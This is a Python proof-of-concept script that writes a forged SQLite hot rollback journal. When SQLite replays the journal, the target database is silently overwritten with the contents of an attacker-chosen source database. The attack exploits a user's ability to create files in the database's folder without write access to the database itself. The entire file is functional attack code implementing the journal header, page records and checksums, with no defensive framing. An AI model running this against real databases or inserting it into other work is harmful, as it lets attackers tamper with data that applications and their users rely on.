#!/usr/bin/env python3
"""Writes a hot rollback journal that, when SQLite replays it, turns a database
into a copy of SOURCE: the attack a user who may create files in a database's
folder (but not write the database) can make.

The journal follows SQLite's documented rollback-journal format
(https://www.sqlite.org/fileformat.html, "The Rollback Journal"): a header
padded to one sector, then one record per page (page number, the page's
original content, a checksum). Replaying it writes each record's page back
into the database and truncates the file to the size the header gives. Here
every "original" page is SOURCE's, so the replayed database is SOURCE.

usage: hot-journal.py SOURCE JOURNAL
"""
import struct
import sys

MAGIC = bytes([0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7])
SECTOR_SIZE = 512
NONCE = 0x5EED1E55


def page_checksum(page: bytes) -> int:
    """The nonce plus every 200th byte of the page, counting down from N-200."""
    total = NONCE
    offset = len(page) - 200
    while offset >= 0:
        total += page[offset]
        offset -= 200
    return total & 0xFFFFFFFF


def main() -> None:
    if len(sys.argv) != 3:
        sys.exit(__doc__.strip().splitlines()[-1])
    source, journal = sys.argv[1], sys.argv[2]
    with open(source, "rb") as handle:
        data = handle.read()
    # The page size is a big-endian 2-byte value at offset 16 of the header (1 means 65536).
    page_size = struct.unpack(">H", data[16:18])[0] or 65536
    if page_size == 1:
        page_size = 65536
    pages = [data[i:i + page_size] for i in range(0, len(data), page_size)]
    header = MAGIC + struct.pack(">IIIII", len(pages), NONCE, len(pages), SECTOR_SIZE, page_size)
    records = bytearray(header.ljust(SECTOR_SIZE, b"\0"))
    for number, page in enumerate(pages, start=1):
        records += struct.pack(">I", number) + page + struct.pack(">I", page_checksum(page))
    # O_EXCL: never write through something already there.
    with open(journal, "xb") as handle:
        handle.write(records)


if __name__ == "__main__":
    main()
